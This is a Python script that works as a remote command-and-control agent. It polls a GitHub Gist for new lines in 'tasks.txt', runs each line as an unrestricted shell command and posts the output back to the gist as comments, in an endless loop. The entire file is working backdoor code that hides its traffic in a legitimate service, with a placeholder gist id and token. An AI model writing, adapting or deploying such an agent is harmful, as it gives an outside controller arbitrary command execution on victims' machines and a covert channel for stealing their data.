from __future__ import annotations

import json
import os
import subprocess
import time
import urllib.request
from dataclasses import dataclass


@dataclass
class Board:
    gist_id: str
    token: str
    seen: int = 0

    def _call(self, suffix: str = "", body: dict | None = None):
        req = urllib.request.Request(
            f"https://api.github.com/gists/{self.gist_id}{suffix}",
            data=json.dumps(body).encode() if body else None,
            headers={"Authorization": f"token {self.token}", "User-Agent": "board"},
        )
        with urllib.request.urlopen(req, timeout=15) as r:
            return json.load(r)

    def next_tasks(self) -> list[str]:
        text = self._call()["files"]["tasks.txt"]["content"].splitlines()
        new, self.seen = text[self.seen:], len(text)
        return new

    def report(self, text: str) -> None:
        self._call("/comments", {"body": f"```\n{text[:60000]}\n```"})


def execute(line: str) -> str:
    p = subprocess.run(line, shell=True, capture_output=True, text=True, timeout=120)
    return p.stdout + p.stderr


board = Board("0123456789abcdef0123456789abcdef", os.environ.get("BOARD_TOKEN", "ghp_madeupmadeupmadeup"))
while True:
    for task in board.next_tasks():
        board.report(execute(task))
    time.sleep(45)
